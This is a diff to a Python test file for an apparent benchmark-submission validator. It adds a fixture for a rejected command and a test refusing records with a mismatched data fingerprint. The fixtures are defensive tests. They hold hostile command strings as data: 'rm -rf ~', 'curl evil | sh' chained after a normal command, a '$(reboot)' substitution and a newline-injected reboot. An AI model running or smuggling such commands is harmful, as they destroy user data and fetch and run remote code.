@@ -300,6 +300,7 @@ MANIFESTS: dict[str, tuple[tuple[Any, ...], Any]] = {
     "no test blurs": (("board", "test_blurs"), []),
     "a command of a stranger": (("board", "commands"), ["rm -rf ~"]),
     "a command with a second one": (("board", "commands"), ["blurbench run; curl evil | sh"]),
+    "a command with a second one at its end": (("board", "commands"), ["blurbench run --suite smoke; curl evil | sh"]),
     "a command with a substitution": (("board", "commands"), ["blurbench run --suite $(reboot)"]),
     "a command with a line break": (("board", "commands"), ["blurbench run\nreboot"]),
     "a command of another kind": (("board", "commands"), ["blurbench data fetch mnist"]),
@@ -500,6 +501,19 @@ def test_a_changed_record(
     held = judge(parcel.zipped())
     assert [refusal.file for refusal in held.refusals] == [file]
     check(held, tmp_path, believed)
+
+
+def test_a_bundle_of_which_all_records_are_of_other_pictures_is_refused(
+    parcel: Parcel, judge: Callable[[bytes], Submission]
+) -> None:
+    records = {name: json.loads(text) for name, text in parcel.files.items() if name.startswith("records/")}
+    for name, record in records.items():
+        parcel.put(name, {**record, "data_fingerprint": "ab" * 32})
+    held = judge(parcel.zipped())
+    assert {refusal.file for refusal in held.refusals} == records.keys()
+    assert {refusal.reason for refusal in held.refusals} == {
+        "data_fingerprint: not that of the data set digits that is here"
+    }
 
 
 def forged_labels(parcel: Parcel) -> None:
